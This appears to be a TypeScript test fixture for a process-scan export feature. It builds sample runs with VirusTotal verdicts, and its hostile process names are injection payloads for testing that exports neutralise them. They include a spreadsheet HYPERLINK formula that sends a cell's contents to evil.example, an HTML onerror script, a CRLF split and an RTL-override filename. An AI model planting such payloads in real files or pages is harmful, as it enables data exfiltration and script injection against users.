import { DEFAULT_MALICIOUS_THRESHOLD, verdictFor, type HashVtChecked, type HashVtState } from '@/domain/verdict';
import { blankProcess, toProcessView } from '@/domain/process';
import type { ExportProcess, RunExport } from '@/server/services/artifacts';

/** Test data only: a small run with ordinary and hostile process rows, some with VirusTotal data. */

export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  crlf: 'evil\r\nname',
  rtlOverride: 'gnp.\u202Eexe.txt',
  html: '<img src=x onerror=alert(1)>',
  long: `long-${'A'.repeat(4096)}`,
  ooxmlEscape: '_x003D_1+1',
  control: 'bad\u0000\u0007name\uD800',
} as const;

/** Distinct executables of the fixture (`empty` is the empty file, the default of `proc`). */
export const SHA = {
  empty: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  malicious: 'a'.repeat(64),
  research: 'b'.repeat(64),
  notFound: 'c'.repeat(64),
  pending: 'd'.repeat(64),
  failed: 'f'.repeat(64),
} as const;

/** Hashes for a fixture executable: md5/sha1 derived from the sha256's first character. */
export function hashesOf(sha256: string): Pick<ExportProcess, 'md5' | 'sha1' | 'sha256'> {
  if (sha256 === SHA.empty) {
    return {
      md5: 'd41d8cd98f00b204e9800998ecf8427e',
      sha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
      sha256,
    };
  }
  const c = sha256.charAt(0);
  return { md5: c.repeat(32), sha1: c.repeat(40), sha256 };
}

/** A VirusTotal answer, its verdict decided the one way (`verdictFor`) with the default threshold. */
export function checked(
  vtScore: number | null,
  totalEngines: number | null = vtScore === null ? null : 72,
  threatLabel: string | null = null,
): HashVtChecked {
  return {
    state: 'checked',
    vtScore,
    verdict: verdictFor(vtScore, DEFAULT_MALICIOUS_THRESHOLD),
    totalEngines,
    threatLabel,
  };
}

export const FIXTURE_VT = {
  clean: checked(0, 72),
  malicious: checked(7, 72, 'trojan.mirai/gafgyt'),
  research: checked(1, 70),
  notFound: checked(null),
  pending: { state: 'pending', reason: null },
  failed: { state: 'failed', reason: 'HTTP 503 from VirusTotal' },
  kernel: { state: 'not-hashed', reason: 'kernel-thread' },
} as const satisfies Record<string, HashVtState>;

export function proc(overrides: Partial<ExportProcess> & Pick<ExportProcess, 'pid' | 'name'>): ExportProcess {
  return {
    ...toProcessView(blankProcess('ok')),
    ppid: 1,
    user: 'root',
    memoryPercent: 1,
    cpuPercent: 0,
    exe: '/usr/bin/true',
    exeStatus: 'ok',
    exeError: null,
    md5: 'd41d8cd98f00b204e9800998ecf8427e',
    sha1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
    sha256: SHA.empty,
    ...overrides,
    // A copy, so a test that edits one process's answer does not edit the shared constant.
    ...(overrides.vt ? { vt: { ...overrides.vt } } : {}),
  };
}

export function makeRunExport(): RunExport {
  return {
    run: {
      id: 42,
      source: 'dashboard',
      status: 'completed',
      startedAt: new Date(Date.UTC(2024, 0, 2, 3, 4, 5, 678)),
      finishedAt: new Date(Date.UTC(2024, 0, 2, 3, 4, 9, 0)),
      error: null,
      minMemoryPercent: 0.5,
      totalProcesses: 310,
      processCount: 9,
      distinctExecutables: 7,
      durationMs: 3322,
    },
    host: {
      hostname: 'build-01.example',
      platform: 'linux',
      distro: 'Ubuntu',
      release: '24.04',
      kernel: '6.8.0-45-generic',
      arch: 'x64',
      totalMemoryBytes: 16_663_093_248,
      cpuModel: 'AMD EPYC 7B13',
      cpuCores: 8,
    },
    processes: [
      proc({
        pid: 1234,
        ppid: 1,
        name: 'postgres',
        user: 'postgres',
        memoryPercent: 12.34567,
        cpuPercent: 3.14159,
        exe: '/usr/lib/postgresql/16/bin/postgres',
        effectiveUser: 'postgres',
        package: 'postgresql-16',
        integrity: 'matches',
        heuristics: [],
        vt: FIXTURE_VT.clean,
      }),
      proc({
        pid: 2001,
        name: HOSTILE.formula,
        memoryPercent: 5,
        ...hashesOf(SHA.malicious),
        vt: FIXTURE_VT.malicious,
      }),
      proc({
        pid: 2002,
        name: HOSTILE.crlf,
        user: '-evil',
        memoryPercent: 4,
        ...hashesOf(SHA.research),
        vt: FIXTURE_VT.research,
      }),
      proc({
        pid: 2003,
        name: HOSTILE.rtlOverride,
        exe: `/tmp/${HOSTILE.rtlOverride}`,
        effectiveUser: 'root',
        package: null,
        integrity: 'not-packaged',
        heuristics: ['temp-dir', 'world-writable'],
        ...hashesOf(SHA.notFound),
        vt: FIXTURE_VT.notFound,
      }),
      proc({
        pid: 2004,
        name: HOSTILE.html,
        exe: '/tmp/a,"b".sh',
        ...hashesOf(SHA.pending),
        vt: FIXTURE_VT.pending,
      }),
      proc({ pid: 2005, name: HOSTILE.long, ...hashesOf(SHA.failed), vt: FIXTURE_VT.failed }),
      proc({
        pid: 2006,
        name: HOSTILE.ooxmlEscape,
        ...hashesOf(SHA.malicious),
        vt: FIXTURE_VT.malicious,
      }),
      proc({ pid: 2007, name: HOSTILE.control, exeError: '@SUM(1)', vt: FIXTURE_VT.clean }),
      proc({
        pid: 2,
        ppid: 0,
        name: 'kthreadd',
        memoryPercent: 0,
        exe: null,
        exeStatus: 'kernel-thread',
        md5: null,
        sha1: null,
        sha256: null,
        vt: FIXTURE_VT.kernel,
      }),
    ],
  };
}
